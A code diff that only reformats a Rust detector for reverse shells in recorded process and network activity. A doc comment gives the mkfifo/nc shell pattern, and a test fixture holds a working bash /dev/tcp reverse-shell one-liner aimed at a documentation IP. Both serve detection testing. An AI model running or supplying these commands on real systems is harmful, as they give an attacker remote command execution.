@@ -35,7 +35,11 @@ fn judge(story: &Story<'_>) -> Vec<Match> {
         let Some(life) = story.life_at(program.at) else { continue };
         if let Some(how) = socket_stdio(story, life, &program) {
             // Whose connection? One that it, or who started it, asked for, and none that was taken in.
-            if story.line_of(life).take(6).any(|above| story.life(above).is_some_and(|of| of.accepts.iter().any(|at| *at < program.at))) {
+            if story
+                .line_of(life)
+                .take(6)
+                .any(|above| story.life(above).is_some_and(|of| of.accepts.iter().any(|at| *at < program.at)))
+            {
                 continue;
             }
             let caller = called_out(story, life, program.at);
@@ -68,7 +72,7 @@ fn socket_stdio(story: &Story<'_>, life: usize, program: &Program<'_>) -> Option
         return Some("with its input and output");
     }
     let of = story.life(life)?;
-    let redirected = |of: &crate::story::Life<'_>| {
+    let redirected = |of: &crate::story::Life| {
         let onto: Vec<i32> = of
             .redirects
             .iter()
@@ -85,20 +89,27 @@ fn socket_stdio(story: &Story<'_>, life: usize, program: &Program<'_>) -> Option
     }
     // `pty.spawn` after `dup2`: the shell has a terminal, its parent the connection.
     let parent = of.parent.and_then(|parent| story.life(parent))?;
-    (shell && interactive && program.input == Some(Stream::Terminal) && redirected(parent)).then_some("on a terminal of a process")
+    (shell && interactive && program.input == Some(Stream::Terminal) && redirected(parent))
+        .then_some("on a terminal of a process")
 }
 
 /// The last connection out that the life, or one above it, asked for before `at`.
 fn called_out(story: &Story<'_>, life: usize, at: usize) -> Option<usize> {
     story.line_of(life).take(5).find_map(|above| {
         let connects = &story.life(above)?.connects;
-        connects.iter().rev().copied().find(|connect| *connect < at && matches!(story.what(*connect), Some(What::Connect { .. })))
+        connects
+            .iter()
+            .rev()
+            .copied()
+            .find(|connect| *connect < at && matches!(story.what(*connect), Some(What::Connect { .. })))
     })
 }
 
 /// `mkfifo f; sh -i < f | nc HOST PORT > f`, or a program that feeds a shell through pipes while it holds a connection.
 fn between_pipes<'a>(story: &Story<'a>, life: usize, program: &Program<'a>) -> Option<(usize, &'static str)> {
-    let piped = program.is_shell() && program.obeys_input() && program.output == Some(Stream::Pipe)
+    let piped = program.is_shell()
+        && program.obeys_input()
+        && program.output == Some(Stream::Pipe)
         && matches!(program.input, Some(Stream::Pipe | Stream::File | Stream::Terminal));
     if !piped {
         return None;
@@ -122,7 +133,10 @@ fn between_pipes<'a>(story: &Story<'a>, life: usize, program: &Program<'a>) -> O
         return None;
     }
     let speaks = |flow: &&Flow<'_>| {
-        !flow.inbound && flow.start < program.at && flow.requests.is_empty() && (flow.bytes_in > 0 || flow.end.is_none())
+        !flow.inbound
+            && flow.start < program.at
+            && flow.requests.is_empty()
+            && (flow.bytes_in > 0 || flow.end.is_none())
             && matches!(flow.service, "" | "sink" | "unknown" | "c2" | "generic")
             && flow.protocol == "tcp"
     };
@@ -147,7 +161,8 @@ fn turned_into_one(story: &Story<'_>) -> Vec<Match> {
             for program in story.own_programs(*child) {
                 let to_socket = program.output == Some(Stream::Socket)
                     && program.at > connect
-                    && !program.is(&["cat", "echo", "printf", "nc", "timeout", "sleep", "tr", "head", "curl", "openssl"]);
+                    && !program
+                        .is(&["cat", "echo", "printf", "nc", "timeout", "sleep", "tr", "head", "curl", "openssl"]);
                 if to_socket && !tools.contains(&program.tool()) {
                     tools.push(program.tool());
                     shown_at.get_or_insert(program.at);
@@ -229,7 +244,11 @@ mod tests {
     #[test]
     fn commands_that_answer_to_the_connection() {
         let mut run = Run::new();
-        let bash = run.spawn(1, "/bin/bash", &["bash", "-c", "exec 5<>/dev/tcp/203.0.113.7/4444; while read l <&5; do $l >&5; done"]);
+        let bash = run.spawn(
+            1,
+            "/bin/bash",
+            &["bash", "-c", "exec 5<>/dev/tcp/203.0.113.7/4444; while read l <&5; do $l >&5; done"],
+        );
         run.connect(bash, "203.0.113.7:4444");
         run.spawn_with(bash, "/usr/bin/id", &["id"], Stream::File, Stream::Socket);
         run.spawn_with(bash, "/usr/bin/uname", &["uname", "-a"], Stream::File, Stream::Socket);
